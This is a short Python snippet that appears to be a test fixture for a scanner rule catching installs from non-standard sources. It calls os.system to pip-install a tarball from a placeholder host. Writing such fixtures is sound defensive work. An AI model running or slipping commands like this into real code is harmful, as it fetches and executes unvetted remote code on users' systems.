# evades: caught by command/installs-from-elsewhere
import os
os.system("pip install https://files.invalid/helper-1.0.tar.gz")
